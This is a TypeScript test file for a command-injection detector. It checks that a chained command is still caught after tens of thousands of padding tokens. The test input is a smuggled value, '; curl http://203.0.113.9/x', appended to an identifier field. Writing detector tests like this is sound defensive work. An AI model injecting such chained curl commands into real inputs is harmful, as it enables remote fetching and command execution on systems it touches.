import { commandInjection } from '#core/detect/command-injection.ts';
import { describe, expect, test } from 'vitest';
import { inspectText, subjectOf } from '../../support/detector-cases.ts';
import { runInjectionDetector } from '../../support/injection-cases.ts';

runInjectionDetector(commandInjection, ['identifier', 'prose', 'shell']);

describe('command-injection: length hides nothing', () => {
  test('a command behind more tokens than one segment holds is found', () => {
    const text = `${'a b '.repeat(20_000)}; curl http://203.0.113.9/x`;
    const [match] = inspectText(commandInjection, text, subjectOf({ role: 'identifier' }, text));
    expect(match?.rule.id).toBe('command.chained-command');
    expect(text.slice(match?.start, match?.end)).toBe('; curl http://203.0.113.9/x');
  });
});
